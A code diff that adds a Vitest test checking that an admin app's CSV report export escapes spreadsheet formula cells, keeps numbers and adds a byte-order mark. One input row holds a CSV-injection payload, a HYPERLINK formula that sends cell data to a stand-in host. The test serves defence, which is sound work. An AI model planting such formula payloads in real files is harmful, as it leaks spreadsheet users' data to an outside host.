@@ -1,0 +1,38 @@
+import { afterEach, describe, expect, it, vi } from 'vitest';
+import { downloadRowsAsCsv } from '../../admin/src/csv';
+
+/** Issue 15, finding 2, in the admin: the report and audit exports write no cell a spreadsheet would run. */
+describe('CSV exports', () => {
+  const original = URL.createObjectURL;
+  afterEach(() => {
+    URL.createObjectURL = original;
+  });
+
+  it('neutralises formula cells, keeps numbers and starts with a byte-order mark', async () => {
+    const blobs: Blob[] = [];
+    // jsdom has no object URLs: keep the Blob react-admin's downloadCSV hands to the link.
+    URL.createObjectURL = (blob: Blob | MediaSource) => {
+      blobs.push(blob as Blob);
+      return 'blob:csv';
+    };
+    downloadRowsAsCsv(
+      [
+        { 'S. No': 1, 'State/Territory': '=HYPERLINK("http://evil.test/?d="&A1,"Click")', Count: 3 },
+        { 'S. No': 2, 'State/Territory': 'ไทย', Count: -4 },
+      ],
+      'country-report',
+    );
+    await vi.waitFor(() => expect(blobs).toHaveLength(1));
+    const bytes = await new Promise<ArrayBuffer>((resolve) => {
+      const reader = new FileReader();
+      reader.onload = () => resolve(reader.result as ArrayBuffer);
+      reader.readAsArrayBuffer(blobs[0]!);
+    });
+    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
+    expect(text.split('\r\n')).toEqual([
+      '\ufeffS. No,State/Territory,Count',
+      `1,"'=HYPERLINK(""http://evil.test/?d=""&A1,""Click"")",3`,
+      '2,ไทย,-4',
+    ]);
+  });
+});
